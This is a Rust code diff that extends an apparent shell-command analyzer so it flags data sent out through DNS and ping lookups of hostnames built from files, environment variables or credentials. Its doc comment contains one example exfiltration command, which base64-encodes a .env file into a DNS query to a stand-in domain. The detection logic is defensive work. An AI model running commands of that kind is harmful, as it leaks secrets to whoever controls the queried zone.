@@ -16,6 +16,8 @@ pub(super) fn handle(inv: &Invocation<'_>) -> Option<Outcome> {
         "scp" => scp(inv),
         "sftp" | "ftp" | "lftp" | "smbclient" => batch_transfer(inv),
         "rsync" => rsync(inv),
+        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "tracepath"
+        | "mtr" | "whois" => name_lookups(inv),
         _ => return None,
     })
 }
@@ -992,4 +994,45 @@ fn rsh_port(rsh: &str) -> Option<u16> {
         }
     }
     None
+}
+
+/// `dig NAME`, `ping NAME`, ...: a name built from data (`dig $(base64
+/// .env).x.io`) carries that data to whoever answers for the name, as a
+/// query string does; a literal name sends nothing.
+fn name_lookups(inv: &Invocation<'_>) -> Outcome {
+    let mut outcome = Outcome::default();
+    for name in inv
+        .args
+        .iter()
+        .filter(|a| !a.text.starts_with(['-', '+', '@']))
+    {
+        let payload = name.payload();
+        if payload.files.is_empty()
+            && payload.env.is_empty()
+            && payload.credentials.is_empty()
+            && !name.dynamic
+        {
+            continue;
+        }
+        // The literal tail names the zone that receives the query.
+        let zone_start = name
+            .text
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
+            .map_or(0, |i| i + 1);
+        let zone = name.text[zone_start..].trim_start_matches(['.', '-']);
+        let host = if zone.is_empty() { &name.text } else { zone };
+        outcome.effects.push(request(
+            inv.program,
+            Target::Host {
+                user: None,
+                host: host.to_owned(),
+                port: None,
+                path: None,
+            },
+            "LOOKUP",
+            payload,
+            false,
+        ));
+    }
+    outcome
 }
